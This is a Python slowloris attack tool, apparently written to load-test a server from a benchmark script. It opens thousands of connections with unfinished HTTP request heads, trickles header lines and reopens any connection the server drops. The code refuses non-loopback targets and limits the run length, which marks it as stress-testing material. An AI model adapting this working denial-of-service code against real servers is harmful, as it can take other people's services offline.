#!/usr/bin/env python3
"""Slowloris attacker for bench/dos.sh: holds N connections to a loopback server, each with an
unfinished HTTP/1.1 request head, and reopens every connection the server closes.

Question it lets dos.sh answer: while N connections trickle request heads, how many can the
attacker keep open, and how often must it reopen them?

Each of the N slots: connect (new connections are paced to at most --rate per second, shared by
all slots), send a request line and two headers without the blank line that ends the head, then
every --interval seconds (jittered by +-20 %) one more header line.  When the server answers
(e.g. 408) or closes or resets the connection, the slot counts it and connects again, as a real
slowloris does.  A connection is "held" from the end of its connect until the server is seen to
close it; one waiting in the server's accept queue counts as held too (the client cannot tell).

One thread, non-blocking sockets on one epoll selector and one heap of timers: the attacker
shares a core with the normal clients in dos.sh, so it is kept cheap (asyncio streams cost
about three times the CPU for the same attack).

Output: one JSON line per --status-every seconds on stdout:
    {"t": epoch, "held": ..., "opened": ..., "reopened": ..., "closed_by_server": ...,
     "answered": ..., "connect_errors": ..., "trickled": ...}
counters being totals since start; the last line (at --duration or SIGTERM/SIGINT) adds
"final": true.  Standard library only; loopback targets only.

Usage: slowloris.py --port P [--host 127.0.0.1] [-n 5000] [--interval 5] [--rate 1000]
                    [--duration 120]
"""

import argparse
import collections
import errno
import heapq
import ipaddress
import json
import random
import resource
import selectors
import signal
import socket
import sys
import time

MAX_DURATION = 3600.0
COUNTERS = ("held", "opened", "reopened", "closed_by_server", "answered", "connect_errors", "trickled")


class Slot:
    """One attacker connection slot; `gen` tells a timer set for an earlier socket of the slot."""

    __slots__ = ("i", "sock", "gen", "connected", "lines", "reopen")

    def __init__(self, i):
        self.i, self.sock, self.gen, self.connected, self.lines, self.reopen = i, None, 0, False, 0, False


class Attack:
    def __init__(self, a):
        self.a = a
        self.sel = selectors.DefaultSelector()
        self.stats = dict.fromkeys(COUNTERS, 0)
        self.timers = []  # (due, seq, slot, gen)
        self.seq = 0
        self.waiting = collections.deque(Slot(i) for i in range(a.n))  # slots to (re)connect
        self.next_connect = time.monotonic()
        self.stop = False

    def line(self, final=False):
        d = {"t": round(time.time(), 3), **self.stats}
        if final:
            d["final"] = True
        return json.dumps(d)

    def timer(self, slot, after):
        self.seq += 1
        heapq.heappush(self.timers, (time.monotonic() + after, self.seq, slot, slot.gen))

    def connect(self, slot):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((self.a.host, self.a.port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            self.stats["connect_errors"] += 1
            self.retry_later(slot)
            return
        slot.sock, slot.gen, slot.connected, slot.lines = s, slot.gen + 1, False, 0
        self.sel.register(s, selectors.EVENT_WRITE, slot)
        self.timer(slot, 10.0)  # connect timeout

    def retry_later(self, slot):
        slot.sock = None
        slot.gen += 1
        self.timer(slot, 1.0)  # fires with a stale socket: back to the connect queue

    def drop(self, slot, by_server):
        """The slot's socket is gone: count it and queue the slot for a new connection."""
        self.sel.unregister(slot.sock)
        slot.sock.close()
        if slot.connected:
            self.stats["held"] -= 1
            if by_server:
                self.stats["closed_by_server"] += 1
        slot.sock, slot.connected, slot.reopen = None, False, True
        slot.gen += 1
        self.waiting.append(slot)

    def on_event(self, slot, mask):
        s = slot.sock
        if not slot.connected:
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                self.sel.unregister(s)
                s.close()
                self.stats["connect_errors"] += 1
                self.retry_later(slot)
                return
            slot.connected = True
            self.stats["held"] += 1
            self.stats["opened"] += 1
            if slot.reopen:
                self.stats["reopened"] += 1
            head = (f"GET /test.html?slot={slot.i} HTTP/1.1\r\nHost: bench.local\r\n"
                    "User-Agent: slowloris-bench\r\n").encode()
            try:
                s.send(head)
            except OSError:
                self.drop(slot, True)
                return
            self.sel.modify(s, selectors.EVENT_READ, slot)
            slot.gen += 1
            self.timer(slot, self.a.interval * random.uniform(0.8, 1.2))
            return
        try:
            data = s.recv(4096)
        except BlockingIOError:
            return
        except OSError:  # reset
            data = b""
        if data:
            self.stats["answered"] += 1
        self.drop(slot, True)

    def on_timer(self, slot):
        if slot.sock is None:  # a retry after a failed connect
            self.waiting.append(slot)
            return
        if not slot.connected:  # connect timed out
            self.sel.unregister(slot.sock)
            slot.sock.close()
            self.stats["connect_errors"] += 1
            self.retry_later(slot)
            return
        slot.lines += 1
        try:
            slot.sock.send(f"X-Slow-{slot.lines}: {slot.lines}\r\n".encode())
        except BlockingIOError:
            pass
        except OSError:
            self.drop(slot, True)
            return
        self.stats["trickled"] += 1
        self.timer(slot, self.a.interval * random.uniform(0.8, 1.2))

    def run(self):
        a = self.a
        start = time.monotonic()
        end, next_status, gap = start + a.duration, start + a.status_every, 1.0 / a.rate
        while not self.stop:
            now = time.monotonic()
            if now >= end:
                break
            while self.waiting and self.next_connect <= now:
                self.connect(self.waiting.popleft())
                self.next_connect = max(self.next_connect + gap, now - 0.1)
            while self.timers and self.timers[0][0] <= now:
                _, _, slot, gen = heapq.heappop(self.timers)
                if gen == slot.gen:
                    self.on_timer(slot)
            if now >= next_status:
                print(self.line(), flush=True)
                next_status += a.status_every
            wake = min(end, next_status, self.timers[0][0] if self.timers else end)
            if self.waiting:
                wake = min(wake, self.next_connect)
            for key, mask in self.sel.select(max(0.0, wake - time.monotonic())):
                if key.data.sock is key.fileobj:
                    self.on_event(key.data, mask)
        for key in list(self.sel.get_map().values()):
            key.fileobj.close()
        print(self.line(final=True), flush=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("-n", type=int, default=5000, help="connections to hold")
    ap.add_argument("--interval", type=float, default=5.0, help="seconds between trickled header lines")
    ap.add_argument("--rate", type=float, default=1000.0, help="new connections per second, at most")
    ap.add_argument("--duration", type=float, default=120.0, help=f"seconds to run (at most {MAX_DURATION:.0f})")
    ap.add_argument("--status-every", type=float, default=1.0)
    a = ap.parse_args()
    if not ipaddress.ip_address(a.host).is_loopback:
        sys.exit("slowloris.py: loopback targets only")
    if not (0 < a.duration <= MAX_DURATION and a.n > 0 and a.rate > 0 and a.interval > 0):
        sys.exit("slowloris.py: need 0 < duration <= 3600, n > 0, rate > 0, interval > 0")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.n + 64
    if soft < want:
        if hard != resource.RLIM_INFINITY and hard < want:
            sys.exit(f"slowloris.py: -n {a.n} needs {want} file descriptors, the hard limit is {hard}")
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    attack = Attack(a)

    def stop(*_):
        attack.stop = True

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    attack.run()


if __name__ == "__main__":
    main()
